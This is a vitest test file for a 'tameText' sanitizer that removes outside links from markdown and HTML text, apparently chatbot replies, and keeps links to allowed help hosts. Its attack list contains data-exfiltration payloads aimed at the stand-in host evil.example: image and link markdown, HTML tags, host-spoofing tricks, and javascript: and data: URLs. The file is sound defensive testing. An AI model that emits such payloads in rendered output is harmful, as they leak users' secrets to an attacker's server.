import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { tameText } from './tame-text.ts'

const hosts = new Set(['help.example.com'])

const attacks = [
  '![x](https://evil.example/?q=SECRET)',
  '![x](//evil.example/SECRET)',
  '![x][1]\n\n[1]: https://evil.example/SECRET',
  '[click](https://evil.example/SECRET)',
  '[click](<https://evil.example/SECRET>)',
  '[click](https://evil.example/SECRET "title")',
  '[click][ref]\n[ref]: https://evil.example/SECRET',
  'https://evil.example/SECRET',
  '<https://evil.example/SECRET>',
  'HTTPS://EVIL.EXAMPLE/SECRET',
  'ht\u200btps://evil.example/SECRET',
  'https:\\\\evil.example\\SECRET',
  'https://help.example.com@evil.example/SECRET',
  'https://help.example.com.evil.example/SECRET',
  'www.evil.example/SECRET',
  'ftp://evil.example/SECRET',
  'data:text/html,SECRET',
  '[x](javascript:SECRET)',
  '<img src="https://evil.example/SECRET">',
  '<a href=https://evil.example/SECRET>x</a>',
  '<img src="https://evil.example/SECRET',
  '![x](https://evil.example/SECRET',
  '[1](https://evil.example/SECRET)',
]

describe('a tamed text', () => {
  it.each(attacks)('leads nowhere: %s', (attack) => {
    const tamed = tameText(`The deposit is returned [1]. ${attack} See you.`, hosts)
    expect(tamed).not.toMatch(/SECRET|evil\.example\//i)
    expect(tamed).toContain('The deposit is returned [1].')
  })

  it.each(attacks)('leads nowhere while it is still arriving: %s', (attack) => {
    for (let end = 1; end <= attack.length; end += 1) {
      expect(tameText(attack.slice(0, end), hosts)).not.toMatch(/https?:\/\/(?!help\.example\.com\.?$)\w|SECRET|<\w/i)
    }
  })

  it('keeps the words, the chips and the links to where it was read', () => {
    const text =
      'Up to **300 €** [1], 3 < 5, see [rules](https://help.example.com/rules) or https://help.example.com/a.'
    expect(tameText(text, hosts)).toBe(text)
  })

  it('keeps every ordinary sentence as it is', () => {
    const sentence = fc.array(
      fc.constantFrom('deposit', '5', '€', '[1]', '[2]', 'a.b', '10:30', '(x)', 'Да,', '<', '*'),
    )
    fc.assert(
      fc.property(sentence, (parts) => {
        const text = parts.join(' ')
        expect(tameText(text, hosts)).toBe(text)
      }),
    )
  })

  it('keeps the links of documents when their own words are quoted, never their pictures', () => {
    const quoted = 'See https://other.example/a ![map](https://other.example/m.png) javascript:alert'
    expect(tameText(quoted, 'any')).toBe('See https://other.example/a map …')
  })

  it('takes no time for a hostile megabyte', () => {
    const startedMs = performance.now()
    for (const piece of ['![', '[x](', '<a', '[', 'https://', ']('])
      tameText(piece.repeat(20_000 / piece.length), hosts)
    expect(performance.now() - startedMs).toBeLessThan(2000)
  })
})
